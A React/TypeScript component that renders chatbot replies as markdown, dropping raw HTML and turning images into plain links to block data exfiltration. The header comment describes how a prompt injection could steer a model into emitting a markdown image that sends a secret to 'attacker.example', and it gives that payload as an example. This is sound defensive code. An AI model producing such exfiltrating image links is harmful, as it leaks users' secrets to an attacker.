// A bot's reply rendered as markdown. react-markdown builds React elements (never HTML strings), drops
// raw HTML and neutralises javascript: links, so a reply cannot inject markup or script. Images become
// links: a model's output (steered by a prompt injection) must not make the browser fetch a URL that
// carries data out (`![](https://attacker.example/?q=<secret>)`); the person decides whether to open it.
import ReactMarkdown, { type Components } from "react-markdown";

const components: Components = {
  p: ({ children }) => <p className="my-1 first:mt-0 last:mb-0">{children}</p>,
  a: ({ children, href }) => (
    <a href={href} target="_blank" rel="noopener noreferrer nofollow" className="text-indigo-700 underline">
      {children}
    </a>
  ),
  img: ({ src, alt }) => (
    <a
      href={typeof src === "string" ? src : undefined}
      target="_blank"
      rel="noopener noreferrer nofollow"
      className="text-indigo-700 underline"
    >
      {`Image: ${alt || src || "untitled"}`}
    </a>
  ),
  ul: ({ children }) => <ul className="my-1 list-disc pl-5">{children}</ul>,
  ol: ({ children }) => <ol className="my-1 list-decimal pl-5">{children}</ol>,
  h1: ({ children }) => <h3 className="mb-1 mt-2 font-semibold first:mt-0">{children}</h3>,
  h2: ({ children }) => <h3 className="mb-1 mt-2 font-semibold first:mt-0">{children}</h3>,
  h3: ({ children }) => <h4 className="mb-1 mt-2 font-semibold first:mt-0">{children}</h4>,
  code: ({ children }) => <code className="rounded bg-zinc-200/70 px-1 font-mono text-[12px]">{children}</code>,
  pre: ({ children }) => (
    <pre className="my-1 overflow-x-auto rounded bg-zinc-800 p-2 text-[12px] text-zinc-100 [&_code]:bg-transparent [&_code]:p-0">
      {children}
    </pre>
  ),
  blockquote: ({ children }) => <blockquote className="my-1 border-l-2 border-zinc-300 pl-2 text-zinc-600">{children}</blockquote>,
};

export function Markdown({ text }: { text: string }) {
  return (
    <div className="break-words">
      <ReactMarkdown components={components} skipHtml>
        {text}
      </ReactMarkdown>
    </div>
  );
}
